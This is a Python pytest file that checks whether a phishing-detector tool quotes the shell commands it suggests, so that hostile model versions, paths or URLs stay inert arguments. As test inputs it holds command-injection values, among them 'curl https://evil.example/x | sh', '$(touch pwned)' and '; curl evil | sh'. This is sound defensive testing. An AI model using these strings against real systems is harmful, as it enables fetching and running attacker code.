"""Commands a person may copy into a shell are quoted (issue 19, finding 9): a hostile model version,
path or URL is one inert argument of the suggested command, and shows as text on the terminal."""
from __future__ import annotations

import shlex

import monitor_synthetic as ms
import pytest
from monitor_synthetic import run_cli

from phishing_url_detector.errors import VerificationError
from phishing_url_detector.fetch import _refuse_unsafe, cached_manifests
from phishing_url_detector.text import shell_command
from pipeline.monitoring import thresholds

HOSTILE = "1.0.0 && curl https://evil.example/x | sh #"


def hint_words(text: str, command: str) -> list[list[str]]:
    """Every line of ``text`` that suggests ``command``, split as a POSIX shell would."""
    return [shlex.split(line.strip()) for line in text.splitlines() if line.strip().startswith(command)]


@pytest.mark.parametrize("word", [HOSTILE, "$(touch pwned)", "a'b", "x\ny", "\x1b[2Kok", "-rf /", ""])
def test_shell_command_is_one_word_per_value_and_printable(word):
    line = shell_command("phishing-url-detector", "fetch", "--tag", f"model-v{word}")
    assert line.isprintable()  # no newline, ESC, ... : it shows as text on a terminal
    words = shlex.split(line)
    assert words[:3] == ["phishing-url-detector", "fetch", "--tag"] and len(words) == 4
    if word.isprintable():
        assert words[3] == f"model-v{word}"  # exactly the value, nothing run
    assert shell_command("rm", "plain/path") == "rm plain/path"  # safe words stay readable


def test_the_monitors_fetch_hint_quotes_a_hostile_model_version(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("PHISHING_MODEL_CACHE", str(tmp_path / "cache"))
    monkeypatch.setenv("PHISHING_MODEL_REPO", "acme/models")
    rows = ms.synthetic_log(1, windows=2, rows_per_window=50, version=HOSTILE).drop(columns="verdict")
    params = tmp_path / "params.yaml"
    params.write_text("monitor:\n  releases: []\n")
    assert run_cli("monitor", "--log", ms.to_csv_log(rows, tmp_path / "log.csv"), "--out", tmp_path / "out",
                   "--params", params) == 1
    err = capsys.readouterr().err
    assert hint_words(err, "phishing-url-detector fetch") == [
        ["phishing-url-detector", "fetch", "--repo", "acme/models", "--tag", f"model-v{HOSTILE}"]]


def test_unknown_versions_message_escapes_then_quotes():
    message = thresholds.unknown_versions_message({"1.0\n$(id)\x1b[2K": 3, HOSTILE: 2})
    assert "\x1b" not in message and "  1.0\\x0a$(id)\\x1b[2K" in message  # the listing is visible text
    assert hint_words(message, "phishing-url-detector fetch") == [
        ["phishing-url-detector", "fetch", "--tag", "model-v1.0\\x0a$(id)\\x1b[2K"],
        ["phishing-url-detector", "fetch", "--tag", f"model-v{HOSTILE}"]]


def test_cache_hints_quote_the_path(tmp_path):
    hostile = tmp_path / "c; touch pwned #"
    hostile.mkdir()
    link = hostile / "entry"
    link.symlink_to(tmp_path)
    with pytest.raises(VerificationError) as info:
        _refuse_unsafe(link)
    assert f"remove it (rm '{link}')" in str(info.value)
    assert shlex.split(str(info.value).split("(rm ", 1)[1].split(")", 1)[0]) == [str(link)]
    hostile.chmod(0o777)
    with pytest.raises(VerificationError) as info:
        _refuse_unsafe(hostile)
    assert str(info.value).endswith(f"run chmod go-w '{hostile}'")


def test_fetch_logs_prints_a_quoted_command(tmp_path, capsys):
    params = tmp_path / "params.yaml"
    params.write_text("monitor:\n  logs:\n    path: data/logs\n")
    url = "https://h.example/log.csv; curl evil | sh"
    assert run_cli("fetch-logs", "--params", params, "--url", url, "--dry-run") == 0
    words = shlex.split(capsys.readouterr().out.removeprefix("fetch-logs:"))
    assert words[-4:] == ["get-url", "--force", url, "data/logs"]


def test_old_cache_entry_hint_is_quoted(tmp_path):
    """A cache directory named like a command (no ``/``: it is one path component)."""
    name = "1.0.0 && curl -s evil.example | sh #"
    entry = tmp_path / ("a" * 64) / name
    entry.mkdir(parents=True, mode=0o700)
    (tmp_path / ("a" * 64)).chmod(0o700)
    (entry / "manifest.json").write_text("{}")
    warnings: list[str] = []
    assert cached_manifests("acme/models", tmp_path, warn=warnings.append) == []
    assert hint_words(warnings[0].split("fetch it again (", 1)[1].rstrip(")"), "phishing-url-detector") == [
        ["phishing-url-detector", "fetch", "--repo", "acme/models", "--tag", f"model-v{name}"]]
